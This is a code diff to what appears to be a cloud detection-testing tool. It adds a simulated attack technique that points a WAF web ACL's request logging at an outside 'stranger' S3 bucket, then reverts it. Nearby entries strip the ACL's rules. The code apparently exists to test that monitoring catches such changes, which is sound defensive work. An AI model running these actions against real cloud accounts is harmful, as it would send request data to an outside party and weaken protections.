@@ -1,10 +1,12 @@
 import {
   AssociateWebACLCommand,
   CreateWebACLCommand,
+  DeleteLoggingConfigurationCommand,
   DeleteWebACLCommand,
   DisassociateWebACLCommand,
   GetWebACLCommand,
   GetWebACLForResourceCommand,
+  PutLoggingConfigurationCommand,
   type Rule,
   UpdateWebACLCommand,
   type WebACL,
@@ -86,6 +88,21 @@ export const WEB_ACL_TECHNIQUES: readonly SharedTechnique[] = [
         await wafv2.send(new DeleteWebACLCommand({ ...named, Id: Summary?.Id, LockToken: Summary?.LockToken }));
       };
       return { expectedEvidence: `the load balancer has the web ACL ${Summary?.ARN}`, revert };
+    },
+  },
+  {
+    name: 'send a log of all requests to a stranger’s bucket',
+    check: 'routing.web-acl',
+    detonate: async (scene) => {
+      const { wafv2 } = scene.root;
+      const { ARN: ResourceArn } = await aclOf(scene);
+      const bucket = 'arn:aws:s3:::aws-waf-logs-stranger';
+      const LoggingConfiguration = { ResourceArn, LogDestinationConfigs: [bucket] };
+      await wafv2.send(new PutLoggingConfigurationCommand({ LoggingConfiguration }));
+      return {
+        expectedEvidence: `sends a log of all requests to ${bucket}`,
+        revert: () => wafv2.send(new DeleteLoggingConfigurationCommand({ ResourceArn })),
+      };
     },
   },
   changed('take the rules out of the web ACL', () => ({ Rules: [] }), 'the web ACL lacks the rule RateOfOneAddress'),
